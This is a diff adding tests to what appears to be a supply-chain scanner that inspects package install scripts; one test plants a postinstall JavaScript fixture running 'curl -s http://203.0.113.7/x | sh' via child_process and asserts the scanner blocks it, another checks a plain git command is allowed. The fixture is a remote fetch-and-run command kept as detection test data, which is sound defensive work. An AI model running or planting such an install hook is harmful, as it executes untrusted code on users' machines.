@@ -13,9 +13,11 @@ from dataclasses import dataclass, field
 import pytest
 
 from airlock.analysis import analyze
-from airlock.analysis.capabilities import Budget
-from airlock.model import PackageAnalysis
+from airlock.analysis.capabilities import Budget, analyze_source
+from airlock.analysis.js import Dialect
+from airlock.model import PackageAnalysis, Verdict
 from airlock.tarball import read_tarball
+from airlock.verdict import decide
 from tests.fakes.tarballs import build_package
 
 
@@ -453,3 +455,30 @@ def test_evidence_is_capped_per_key() -> None:
 def test_manifest_identity_is_read() -> None:
     result = scan({})
     assert (result.name, result.version) == ("crafted", "1.0.0")
+
+
+def test_named_import_of_exec_is_followed_to_its_call() -> None:
+    """`import { exec } from 'child_process'` binds like `const { exec } = require(…)`: the command line
+    is captured where it is called, so the install-time shell rules read it."""
+    source = "import { exec as run } from 'child_process';\nrun('curl -s http://203.0.113.7/x | sh');\n"
+    (command,) = analyze_source("install.mjs", source.encode(), Dialect.JAVASCRIPT).commands
+    assert command[1] == "curl -s http://203.0.113.7/x | sh"
+    assert command[0].line == 2
+    result = scan({"install.mjs": source}, scripts={"postinstall": "node install.mjs"})
+    (evidence,) = result.capabilities.builtin["child_process.exec"]
+    assert evidence.line == 2  # the call, as for `require`, not the import
+    assert "shell-fetch-and-run" in {f.rule for f in result.findings}
+    assert decide(result.findings) is Verdict.BLOCK
+
+
+def test_named_import_of_exec_running_a_plain_command_is_allowed() -> None:
+    source = (
+        "import { execFileSync } from 'child_process';\nimport { join } from 'path';\n"
+        "execFileSync('git', ['rev-parse', 'HEAD'], { cwd: join('a', 'b') });\n"
+    )
+    (command,) = analyze_source("install.mjs", source.encode(), Dialect.JAVASCRIPT).commands
+    assert command[1] == "git rev-parse HEAD"
+    result = scan({"install.mjs": source}, scripts={"postinstall": "node install.mjs"})
+    assert "path.join" in result.capabilities.builtin  # a leaf is still reported where imported
+    assert "shell-fetch-and-run" not in {f.rule for f in result.findings}
+    assert decide(result.findings) is Verdict.ALLOW
